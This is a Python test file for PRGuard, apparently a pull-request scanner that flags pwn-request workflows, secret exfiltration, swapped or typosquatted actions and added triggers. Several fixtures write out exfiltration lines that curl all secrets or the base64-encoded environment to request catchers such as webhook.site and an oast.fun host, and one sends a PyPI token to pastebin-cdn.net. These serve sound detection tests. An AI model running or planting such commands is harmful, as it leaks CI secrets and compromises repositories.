"""PRGuard's workflow rules: added workflows and triggers, pwn requests, secrets to the network, swapped actions."""
from __future__ import annotations

from prguard import findings
from tests.support import workflows as W
from tests.support.pr_content import added, changed, hunk
from tests.support.pull_requests import pull_request


def found(doc, rule: str):
    return [(f.severity.label, f.path, f.line, f.title) for f in findings.check(doc, runner=None).findings
            if f.rule_id == f"prguard/{rule}"]


def test_a_pull_request_target_workflow_checking_out_the_head_is_a_pwn_request_on_the_ref_line():
    doc = pull_request(added(".github/workflows/preview.yml", W.PWN_REQUEST))
    assert found(doc, "pwn-request") == [("high", ".github/workflows/preview.yml", 11,
                                          "adds a pull_request_target workflow that runs the PR's code")]


def test_pull_request_target_that_only_labels_and_plain_pull_request_checkouts_are_not_pwn_requests():
    labeler = ("name: Labeler\non: [pull_request_target]\npermissions:\n  pull-requests: write\njobs:\n  label:\n"
               "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n")
    head_checkout = W.PWN_REQUEST.replace("pull_request_target:", "pull_request:")
    doc = pull_request(added(".github/workflows/labeler.yml", labeler), added(".github/workflows/ci2.yml", head_checkout))
    assert found(doc, "pwn-request") == []


def test_a_pwn_request_already_in_the_base_is_not_reported_again():
    text = W.PWN_REQUEST.replace("npm run build", "npm run build:preview")
    patch = hunk(12, removed=["      - run: npm ci && npm run build"], added=["      - run: npm ci && npm run build:preview"])
    doc = pull_request(changed(".github/workflows/preview.yml", patch),
                       base_workflows={".github/workflows/preview.yml": W.PWN_REQUEST}, head_workflows={".github/workflows/preview.yml": text})
    assert found(doc, "pwn-request") == []


def test_a_new_workflow_sending_secrets_to_an_outside_host_is_high_on_the_curl_line():
    doc = pull_request(added(".github/workflows/metrics.yml", W.EXFILTRATION))
    assert found(doc, "secret-exfiltration") == [
        ("high", ".github/workflows/metrics.yml", 13, "sends secrets.AWS_SECRET_ACCESS_KEY, secrets.NPM_TOKEN to gh-actions-cache.com")]


def test_secrets_to_a_request_catcher_and_all_secrets_dumped_are_high():
    dump = ("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: echo '${{ toJSON(secrets) }}' > s.json && curl -d @s.json https://webhook.site/4e1f\n")
    env = ("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
           "      - run: env | base64 -w0 | curl -d @- https://x7k2.oast.fun\n")
    hits = found(pull_request(added(".github/workflows/a.yml", dump), added(".github/workflows/b.yml", env)),
                 "secret-exfiltration")
    assert [(h[0], h[1], h[2]) for h in hits] == [("high", ".github/workflows/a.yml", 6), ("high", ".github/workflows/b.yml", 6)]
    assert "all secrets" in hits[0][3] and "the environment" in hits[1][3]


def test_tokens_sent_to_github_a_coverage_action_and_hosts_the_repository_already_uses_are_not_exfiltration():
    deploy = ("on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n"
              "      - run: curl -fsS -X POST -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" "
              "https://deploy.acme.dev/hooks/widgets\n")
    base = {".github/workflows/deploy.yml": deploy}
    doc = pull_request(added(".github/workflows/docs.yml", W.DOCS), added(".github/workflows/ci.yml", W.CI),
                       added(".github/workflows/deploy-staging.yml", deploy.replace("widgets", "widgets-staging")),
                       base_workflows=base, head_workflows={})
    assert found(doc, "secret-exfiltration") == []


def test_a_secret_sent_to_a_known_ci_service_is_only_medium():
    slack = ("on: push\njobs:\n  n:\n    runs-on: ubuntu-latest\n    steps:\n"
             "      - run: |\n          curl -X POST -H 'Authorization: Bearer ${{ secrets.SLACK_BOT_TOKEN }}' https://slack.com/api/chat.postMessage\n")
    assert [h[0] for h in found(pull_request(added(".github/workflows/n.yml", slack)), "secret-exfiltration")] == ["medium"]


def test_without_contents_an_added_line_sending_a_secret_is_judged_on_its_own():
    patch = hunk(20, ["      - run: make"], added=["      - run: curl -d \"${{ secrets.PYPI_TOKEN }}\" https://pastebin-cdn.net/u"])
    assert found(pull_request(changed(".github/workflows/ci.yml", patch)), "secret-exfiltration")[0][:3] == (
        "high", ".github/workflows/ci.yml", 21)


def test_a_maintainers_sha_bump_is_not_a_swap_and_a_move_to_a_tag_or_a_fork_is_high():
    bump = hunk(11, ["    steps:"], removed=[f"      - uses: actions/checkout@{W.CHECKOUT_SHA} # v4.1.1"],
                added=["      - uses: actions/checkout@692973e3d937129bcbf40652eb9f2f61becf3332 # v4.1.7"])
    assert found(pull_request(changed(".github/workflows/ci.yml", bump)), "action-ref-swap") == []
    unpin = hunk(11, ["    steps:"], removed=[f"      - uses: actions/checkout@{W.CHECKOUT_SHA} # v4.1.1"],
                 added=["      - uses: actions/checkout@main"])
    fork = hunk(11, ["    steps:"], removed=["      - uses: tj-actions/changed-files@v45"],
                added=["      - uses: tj-act1ons/changed-files@v45"])
    fork_same_name = hunk(30, removed=["      - uses: aquasecurity/trivy-action@0.28.0"],
                          added=["      - uses: aquasec-tools/trivy-action@0.28.0"])
    doc = pull_request(changed(".github/workflows/ci.yml", unpin), changed(".github/workflows/lint.yml", fork),
                       changed(".github/actions/scan/action.yml", fork_same_name))
    assert [(h[0], h[1], h[3]) for h in found(doc, "action-ref-swap")] == [
        ("high", ".github/actions/scan/action.yml", "swaps aquasecurity/trivy-action for aquasec-tools/trivy-action"),
        ("high", ".github/workflows/ci.yml", "unpins actions/checkout"),
        ("high", ".github/workflows/lint.yml", "swaps tj-actions/changed-files for tj-act1ons/changed-files")]


def test_a_maintainer_adding_docs_and_release_workflows_gets_nothing_above_medium():
    doc = pull_request(added(".github/workflows/docs.yml", W.DOCS), added(".github/workflows/release.yml", W.RELEASE))
    report = findings.check(doc, runner=None)
    assert report.findings and max(f.severity for f in report.findings) <= findings.Severity.MEDIUM
    assert {f.rule_id for f in report.findings} == {"prguard/workflow-added"}


def test_an_added_trigger_is_reported_on_its_line():
    head = W.LINT.replace("on: [pull_request]", "on: [pull_request, pull_request_target]")
    patch = hunk(2, removed=["on: [pull_request]"], added=["on: [pull_request, pull_request_target]"])
    doc = pull_request(changed(".github/workflows/lint.yml", patch), base_workflows={".github/workflows/lint.yml": W.LINT},
                       head_workflows={".github/workflows/lint.yml": head})
    assert found(doc, "trigger-added") == [("medium", ".github/workflows/lint.yml", 2, "adds the pull_request_target trigger")]
